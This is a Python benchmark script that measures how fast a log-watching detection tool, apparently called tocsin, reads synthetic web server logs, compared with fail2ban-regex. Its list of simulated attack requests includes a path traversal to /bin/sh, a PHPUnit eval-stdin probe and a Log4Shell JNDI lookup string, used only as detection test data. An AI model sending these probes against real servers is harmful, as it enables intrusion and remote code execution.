"""How fast `tocsin watch` reads web logs with every rule, and `fail2ban-regex` beside it with one filter.

`python -m bench.witness` prints lines a second, the peak of memory, and the ratio. Of fifty lines one is an attack and
one a missing page.
"""

from __future__ import annotations

import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import msgspec

from bench.figure import Figure, in_process, peak_mb, print_figures
from tocsin.engine import Engine
from tocsin.witness.judge import told_rows
from tocsin.witness.watch import MEMORY, Told, watch_file

LINES_PER_S_MIN = 800_000
PEAK_MB_MAX = 1_000
NOW = datetime(2026, 11, 25, tzinfo=UTC)
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
)
ATTACKS = (
    *("/.env", "/wp-login.php", "/phpmyadmin/index.php", "/cgi-bin/.%2e/.%2e/bin/sh", "/boaform/admin/formLogin"),
    *("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?x=${jndi:ldap://198.51.100.9/a}"),
)
FILTER = Path("/etc/fail2ban/filter.d/nginx-botsearch.conf")
FAIL2BAN_LINES = 100_000


def web_lines(lines: int, seed: int = 1) -> Iterator[str]:
    """Lines of about 240 bytes, one day of them."""
    dice = random.Random(seed)
    for number in range(lines):
        second = number * 86_400 // lines
        stamp = f"24/Nov/2026:{second // 3600:02}:{second // 60 % 60:02}:{second % 60:02} +0000"
        if dice.random() < 0.02:
            path, host = dice.choice(ATTACKS), f"203.0.113.{dice.randrange(256)}"
            yield f'{host} - - [{stamp}] "GET {path} HTTP/1.1" 404 162 "-" "curl/8.9.1"'
        else:
            host, item = f"198.51.{dice.randrange(256)}.{dice.randrange(256)}", dice.randrange(99_999)
            yield (
                f'{host} - - [{stamp}] "GET /shop/item/{item}?ref={dice.randrange(99_999)}&lang=en HTTP/1.1"'
                f" {404 if dice.random() < 0.02 else 200} {dice.randrange(90_000)}"
                f' "https://shop.example/list/{dice.randrange(999)}" "{dice.choice(AGENTS)}"'
            )


def write_log(path: Path, lines: int, times: int = 1) -> None:
    """The same lines so many times."""
    text = "\n".join(web_lines(lines)).encode() + b"\n"
    with path.open("wb") as file:
        for _ in range(times):
            file.write(text)


class Measured(msgspec.Struct, frozen=True, kw_only=True):
    lines: int
    wall_s: float
    cpu_s: float
    peak_mb: int
    sightings: int


def measure(times: int, lines: int = 1_000_000) -> Measured:
    with tempfile.TemporaryDirectory() as name:
        log = Path(name) / "access.log"
        write_log(log, lines, times)
        with Engine(Path(name) / "work", memory=MEMORY) as engine:
            began, cpu = time.perf_counter(), _cpu_s()
            read = watch_file(engine, log, Told(), now=NOW)
            done, cpu_done = time.perf_counter(), _cpu_s()
            sightings = sum(1 for row in told_rows(engine) if "reject" not in row) if times == 1 else 0
        return Measured(
            lines=read.lines, wall_s=done - began, cpu_s=cpu_done - cpu, peak_mb=peak_mb(), sightings=sightings
        )


def _cpu_s() -> float:
    """Of this process and of those that it has ended."""
    told = os.times()
    return told.user + told.system + told.children_user + told.children_system


def fail2ban_lines_per_s() -> float | None:
    """None where it is not installed."""
    program = shutil.which("fail2ban-regex")
    if program is None or not FILTER.exists():
        return None
    with tempfile.TemporaryDirectory() as name:
        log = Path(name) / "access.log"
        write_log(log, FAIL2BAN_LINES)
        began = time.perf_counter()
        subprocess.run([program, str(log), str(FILTER)], check=True, capture_output=True)
        return FAIL2BAN_LINES / (time.perf_counter() - began)


def figures() -> list[Figure]:
    few, many = (msgspec.json.decode(in_process("bench.witness", str(times)), type=Measured) for times in (5, 20))
    rate, theirs = many.lines / many.wall_s, fail2ban_lines_per_s()
    beside = f"fail2ban-regex with one filter {theirs:,.0f} lines/s: {rate / theirs:.0f} times" if theirs else ""
    return [
        Figure(
            what="watch a web log with every rule, lines of 240 bytes, 4 % of them worth a look",
            measured=f"{rate:,.0f} lines/s ({many.cpu_s / many.lines * 1e6:.2f} s of CPU a million)",
            promised=f"{LINES_PER_S_MIN:,} lines/s",
            kept=rate >= LINES_PER_S_MIN,
            peers=beside,
        ),
        Figure(
            what=f"the same, memory for {many.lines:,} lines (for {few.lines:,}: {few.peak_mb:,} MB)",
            measured=f"{many.peak_mb:,} MB",
            promised=f"flat, at most {PEAK_MB_MAX:,} MB",
            kept=many.peak_mb <= PEAK_MB_MAX,
        ),
    ]


if __name__ == "__main__":
    if len(sys.argv) > 1:
        print(msgspec.json.encode(measure(int(sys.argv[1]))).decode())
    else:
        print_figures(figures())
